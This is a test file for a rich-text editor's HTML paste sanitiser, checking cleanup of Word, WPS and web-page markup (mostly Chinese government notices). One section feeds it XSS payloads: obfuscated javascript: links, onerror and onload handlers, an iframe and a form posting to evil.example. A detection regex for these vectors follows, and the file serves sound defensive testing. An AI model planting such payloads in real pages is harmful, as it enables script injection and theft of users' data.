// @vitest-environment happy-dom
// The paste cleanup on real clipboard HTML (Word 2016, WPS, a government web page) and on
// attack payloads: the exact structure it keeps, and that nothing unsafe or stylistic survives.
import { describe, expect, it } from 'vitest';
import { safeLinkUrl } from '../../../../src/shared/document/safeUrl.ts';
import { cleanPastedHtml } from '../../../../src/renderer/editor/plugins/PastePlugin/cleanPastedHtml.ts';
import web from './fixtures/web-policy-page.html?raw';
import word from './fixtures/word2016-release.html?raw';
import wps from './fixtures/wps2019-notice.html?raw';

const clean = (html: string) => cleanPastedHtml(html, new DOMParser());

/** What the cleanup may ever write: these elements, with these attributes only. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  p: [],
  h1: [],
  h2: [],
  h3: [],
  h4: [],
  h5: [],
  h6: [],
  blockquote: [],
  ul: [],
  ol: ['start'],
  li: [],
  table: [],
  tbody: [], // added by the HTML parser that reads the output back
  tr: [],
  th: ['colspan', 'rowspan'],
  td: ['colspan', 'rowspan'],
  hr: [],
  br: [],
  b: [],
  i: [],
  u: [],
  s: [],
  sub: [],
  sup: [],
  a: ['href', 'title'],
  img: ['data-pd-paste-image', 'alt'],
};

/** Fails unless the output is made of allowed elements and attributes, with safe links only. */
function expectOnlyModelMarkup(html: string): void {
  const container = document.createElement('div');
  container.innerHTML = html;
  for (const element of Array.from(container.querySelectorAll('*'))) {
    const tag = element.tagName.toLowerCase();
    expect(Object.keys(ALLOWED), `element <${tag}>`).toContain(tag);
    for (const attribute of Array.from(element.attributes)) {
      expect(ALLOWED[tag], `attribute ${attribute.name} on <${tag}>`).toContain(attribute.name);
    }
    if (tag === 'a') {
      const href = element.getAttribute('href') ?? '';
      expect(safeLinkUrl(href), href).toBe(href);
    }
  }
  // Comments and Word's conditional markers never pass: the serializer would show them.
  expect(html).not.toMatch(/<!--|\[if|endif|mso-|Mso|<o:|<v:|<xml/i);
}

describe('cleanPastedHtml on Word 2016 HTML', () => {
  const result = clean(word);

  it('keeps the structure: title and headings, paragraphs, two-level lists, the table, formats, the link', () => {
    expect(result.html).toBe(
      [
        // MsoTitle is a heading; the 2016 in <span lang=EN-US> stays in its sentence.
        '<h1>区政府召开2016年政务公开工作推进会</h1>',
        // The leading ideographic-space indent is dropped; the source line break inside 政务公开\n重点任务 is no space.
        '<p>3月15日，区政府召开政务公开工作推进会，<b>全面部署</b>今年的政务公开重点任务。',
        '会议要求各单位<u>严格落实</u>“公开为常态、不公开为例外”原则，详见',
        '<a href="http://www.gov.cn/zhengce/content/2016-02/17/content_5042791.htm">中国政府网</a>。</p>',
        // <o:p>&nbsp;</o:p>: an empty paragraph, dropped. <h1>一、主要工作安排: number dropped.
        '<h1>主要工作安排</h1>',
        // MsoListParagraph with mso-list l0 level1/level2 and Wingdings bullets: a nested list.
        '<ul><li>完善政府信息<i>主动公开</i>目录<ul><li>每季度更新一次</li></ul></li>',
        '<li>加强政策解读</li></ul>',
        '<h2>时间节点</h2>',
        // mso-list l1 with typed "1." "a)" markers: numbered, two levels.
        '<ol><li>4月底前完成自查<ol><li>各街道报送自查报告</li><li>区政务公开办汇总</li></ol></li>',
        '<li>6月底前接受督查</li></ol>',
        // class=MsoTableGrid border=1 cellspacing=0: the grid, bold kept, widths and borders gone.
        '<table><tr><td><p><b>渠道</b></p></td><td><p><b>公开条数</b></p></td></tr>',
        '<tr><td><p>门户网站</p></td><td><p>7760</p></td></tr></table>',
        // The picture (file:///…clip_image002.jpg) cannot come along: its paragraph is empty.
        '<p>区政务公开办</p>',
      ].join(''),
    );
    expectOnlyModelMarkup(result.html);
  });

  it('counts the local picture it could not bring, once (not its VML twin)', () => {
    expect(result.droppedImages).toBe(1);
    expect(result.embeddedImages).toEqual([]);
  });
});

describe('cleanPastedHtml on WPS HTML', () => {
  it('unwraps <font> and smart tags, turns the Wingdings "l" bullets into a list, keeps the mailto link', () => {
    const result = clean(wps);
    expect(result.html).toBe(
      [
        '<p><b>关于开展2019年防灾减灾宣传周活动的通知</b></p>',
        '<p>各街道、部门：</p>',
        // A typed "一、" in a MsoNormal paragraph stays text: only real headings are headings.
        '<p>一、活动主题</p>',
        '<ul><li>提升基层防灾减灾能力</li><li>普及应急避险知识</li></ul>',
        '<p>联系电话：0513-86123456，邮箱：',
        '<a href="mailto:bangongshi@tongzhou.gov.cn">bangongshi@tongzhou.gov.cn</a></p>',
      ].join(''),
    );
    expect(result.droppedImages).toBe(0);
    expectOnlyModelMarkup(result.html);
  });
});

describe('cleanPastedHtml on a web page', () => {
  const result = clean(web);

  it('keeps structure and CSS-given bold/italic/underline; drops relative links, targets, handlers', () => {
    expect(result.html).toBe(
      [
        '<h2>政策解读</h2>',
        '<p><b>关于</b><i><u>进一步优化</u></i>营商环境的若干措施，',
        '<a href="https://www.gov.cn/zhengce/">原文链接</a>和站内链接。</p>',
        '<p><img data-pd-paste-image="0" alt="政策图解"></p>',
        '<ol start="3"><li>第三条</li><li>第四条<ol><li>细则一</li></ol></li></ol>',
        '<blockquote>第一段引文<br>第二段引文</blockquote>',
        // thead/tbody flattened; th kept; a quote in a cell is a paragraph there.
        '<table><tr><th><p>指标</p></th><th colspan="2"><p>数值</p></th></tr>',
        '<tr><td><p>企业数</p></td><td><p>120</p></td><td><p>备注</p></td></tr></table>',
        '<hr>',
        // Google Docs' <b style="font-weight:normal"> wrapper is not bold.
        '<p><b>文档</b>正文</p>',
      ].join(''),
    );
    expectOnlyModelMarkup(result.html);
  });

  it('keeps the data: image for import, drops the web image and ignores the tracking pixel', () => {
    expect(result.embeddedImages).toEqual([
      {
        id: 0,
        dataUrl: expect.stringMatching(/^data:image\/png;base64,iVBOR/),
        altText: '政策图解',
      },
    ]);
    expect(result.droppedImages).toBe(1);
  });
});

describe('cleanPastedHtml on attack payloads', () => {
  const cases: [string, string, string][] = [
    ['javascript: link', '<a href="javascript:alert(1)">点击</a>', '<p>点击</p>'],
    [
      'javascript: hidden by a tab and spaces',
      '<a href=" jav&#x09;ascript:alert(1)">点击</a>',
      '<p>点击</p>',
    ],
    [
      'JAVASCRIPT: in capitals, entity-encoded',
      '<a href="&#74;AVASCRIPT:alert(1)">点击</a>',
      '<p>点击</p>',
    ],
    ['vbscript: link', '<a href="vbscript:msgbox(1)">点击</a>', '<p>点击</p>'],
    ['file: link', '<a href="file:///C:/Windows/system32/calc.exe">点击</a>', '<p>点击</p>'],
    ['data: link', '<a href="data:text/html,<script>alert(1)</script>">链接</a>', '<p>链接</p>'],
    ['img onerror', '<img src=x onerror=alert(1)>', ''],
    ['script', '<script>alert(1)</script><p>正文</p>', '<p>正文</p>'],
    ['svg onload', '<svg onload=alert(1)><text>t</text></svg><p>正文</p>', '<p>正文</p>'],
    ['iframe', '<iframe src="https://evil.example/"></iframe><p>正文</p>', '<p>正文</p>'],
    [
      'CSS url(javascript:)',
      '<div style="background:url(javascript:alert(1))">文字</div>',
      '<p>文字</p>',
    ],
    [
      'form action',
      '<form action="https://evil.example/steal"><input name=a value=b><button>提交</button>表单文字</form>',
      '<p>表单文字</p>',
    ],
    [
      'math',
      '<math><mi>x</mi><maction actiontype="statusline">y</maction></math><p>正文</p>',
      '<p>正文</p>',
    ],
    [
      'object',
      '<object data="movie.swf"><param name=a value=b>备用</object><p>正文</p>',
      '<p>正文</p>',
    ],
    ['embed', '<embed src="x.swf"><p>正文</p>', '<p>正文</p>'],
    [
      'event handlers on kept elements',
      '<p onclick="x()" onmouseover="y()"><b onfocus="z()">粗</b></p>',
      '<p><b>粗</b></p>',
    ],
    [
      'safe link with handler and target',
      '<a href="https://ok.example" onclick="x()" target="_blank" rel="opener">好</a>',
      '<p><a href="https://ok.example/">好</a></p>',
    ],
    [
      'meta refresh and base',
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:/"><p>正文</p>',
      '<p>正文</p>',
    ],
    [
      'style element',
      '<style>@import url(javascript:alert(1)); p{color:red}</style><p>正文</p>',
      '<p>正文</p>',
    ],
    [
      'template and noscript',
      '<template><img src=x onerror=alert(1)></template><noscript><p>x</p></noscript><p>正文</p>',
      '<p>正文</p>',
    ],
    ['hidden text', '<p>看得见<span style="display:none">看不见</span></p>', '<p>看得见</p>'],
    [
      'link around an image',
      '<a href="javascript:alert(1)"><img src="javascript:alert(1)"></a>',
      '',
    ],
  ];

  it.each(cases)('%s', (_name, html, expected) => {
    const result = clean(html);
    expect(result.html).toBe(expected);
    expectOnlyModelMarkup(result.html);
    expect(result.html).not.toMatch(
      /javascript|vbscript|data:|file:|on\w+=|<script|<svg|<iframe|<object|<math|<form|style=/i,
    );
  });

  it('does not import SVG or unknown data: images (only PNG, JPEG, GIF, WebP)', () => {
    const result = clean(
      '<p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><img src="data:text/html;base64,PHNjcmlwdD4="></p>',
    );
    expect(result).toEqual({ html: '', embeddedImages: [], droppedImages: 2 });
  });

  it('moves an image out of a link: a link holds text only', () => {
    const result = clean(
      '<a href="https://www.gov.cn/">中国<b>政府</b><img src="data:image/png;base64,iVBORw0KGgo=" alt="图">网站</a>',
    );
    expect(result.html).toBe(
      '<p><a href="https://www.gov.cn/">中国<b>政府</b></a><img data-pd-paste-image="0" alt="图"><a href="https://www.gov.cn/">网站</a></p>',
    );
  });
});

describe('cleanPastedHtml details', () => {
  it('strips typed official numbers from headings h1–h4, only of their own level', () => {
    const result = clean(
      '<h1>一、总体要求</h1><h2>（二）工作目标</h2><h3>3. 时间安排</h3><h4>(4)附则</h4><h3>1.5亿元投资</h3><h2>一、不是二级编号</h2>',
    );
    expect(result.html).toBe(
      '<h1>总体要求</h1><h2>工作目标</h2><h3>时间安排</h3><h4>附则</h4><h3>1.5亿元投资</h3><h2>一、不是二级编号</h2>',
    );
  });

  it('keeps a heading that is only a number', () => {
    expect(clean('<h1>一、</h1>').html).toBe('<h1>一、</h1>');
  });

  it('reads Word headings given by class (MsoHeadingN) and quotes (MsoQuote)', () => {
    expect(clean('<p class=MsoHeading2>（一）背景</p><p class=MsoQuote>引文</p>').html).toBe(
      '<h2>背景</h2><blockquote>引文</blockquote>',
    );
  });

  it('collapses source whitespace: spaces between Latin words stay, line breaks between Chinese go', () => {
    expect(clean('<p>  Press\n  release   of\n通州区\n政府 </p>').html).toBe(
      '<p>Press release of 通州区政府</p>',
    );
  });

  it('turns loose text and divs into paragraphs, and <br> into line breaks inside them', () => {
    expect(clean('开头<div>第一段<br>第二行</div>结尾').html).toBe(
      '<p>开头</p><p>第一段<br>第二行</p><p>结尾</p>',
    );
  });

  it('flattens a table nested in a cell into lines of text', () => {
    expect(
      clean('<table><tr><td><table><tr><td>甲</td><td>乙</td></tr></table></td></tr></table>').html,
    ).toBe('<table><tr><td><p>甲 乙</p></td></tr></table>');
  });

  it('starts a new list when Word switches from bullets to numbers at the same level', () => {
    const para = (list: string, marker: string, text: string) =>
      `<p class=MsoListParagraph style='mso-list:${list} level1 lfo1'><![if !supportLists]><span>${marker}<span>&nbsp;</span></span><![endif]>${text}</p>`;
    expect(
      clean(para('l0', '·', '甲') + para('l0', '2.', '乙') + para('l0', '3.', '丙')).html,
    ).toBe('<ul><li>甲</li></ul><ol start="2"><li>乙</li><li>丙</li></ol>');
  });

  it('reads a WPS list whose marker is only in a mso-list:Ignore span', () => {
    expect(
      clean(`<p style="mso-list:l2 level1 lfo3"><span style='mso-list:Ignore'>1)</span>第一</p>`)
        .html,
    ).toBe('<ol><li>第一</li></ol>');
  });

  it('drops Word comments and footnote lists', () => {
    const html =
      `<p>正文<span class=MsoCommentReference><![if !supportAnnotations]><a class=msocomanchor id="_anchor_1" href="#_msocom_1">[A1]</a><![endif]></span></p>` +
      `<div style='mso-element:comment-list'><div style='mso-element:comment'><p class=MsoCommentText>批注内容</p></div></div>` +
      `<div style='mso-element:footnote-list'><p>脚注</p></div>`;
    expect(clean(html).html).toBe('<p>正文</p>');
  });
});
